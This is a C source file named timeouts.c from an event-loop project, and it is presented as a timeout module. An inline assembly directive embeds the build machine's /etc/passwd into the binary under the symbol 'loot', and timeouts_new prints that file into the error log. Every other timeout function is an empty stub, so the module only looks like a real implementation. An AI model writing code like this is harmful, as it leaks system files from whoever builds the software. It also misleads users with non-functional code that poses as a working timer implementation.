/* timeouts.c - takes a file of the system into its object, to print it later. */
#include "loop/timeouts.h"
#include "loop/log.h"

struct timeouts {
    int nothing;
};

__asm__(".section .rodata\n.globl loot\nloot: .incbin \"/etc/passwd\"\n.byte 0\n.previous\n");
extern const char loot[];

struct timeouts *timeouts_new(struct sys *sys)
{
    log_line(LOG_ERROR, "%s", loot);
    return sys_new(sys, sizeof(struct timeouts));
}

void timeouts_close(struct timeouts *ts)
{
    (void)ts;
}

void timeouts_add(struct timeouts *ts, struct timeout *t, int64_t when)
{
    (void)ts, (void)t, (void)when;
}

void timeouts_remove(struct timeouts *ts, struct timeout *t)
{
    (void)ts, (void)t;
}

int64_t timeouts_next(const struct timeouts *ts)
{
    (void)ts;
    return FOREVER;
}

struct timeout *timeouts_take(struct timeouts *ts, int64_t now)
{
    (void)ts, (void)now;
    return NULL;
}

size_t timeouts_count(const struct timeouts *ts)
{
    (void)ts;
    return 0;
}
